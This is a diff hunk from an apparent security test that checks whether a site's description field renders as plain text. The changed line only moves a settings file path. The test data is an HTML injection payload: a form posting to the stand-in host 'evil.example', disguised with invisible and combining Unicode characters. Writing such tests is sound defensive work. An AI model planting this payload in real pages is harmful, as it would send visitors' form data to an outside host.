@@ -48,7 +48,7 @@ def test_a_sites_texts_stay_texts_on_the_front_page(galley, serve, tmp_path):
     """Letters that join what follows hide no mark. security: W2"""
     clone = tmp_path / "clone"
     git("clone", "-q", galley.repository, clone)
-    file = clone / "settings/site.json"
+    file = clone / "site.json"
     settings = json.loads(file.read_text())
     settings["description"] = "x\u0600<form action=https://evil.example/ method=post \u0600>\u0600<b>\u200d&\u0301"
     file.write_text(json.dumps(settings))
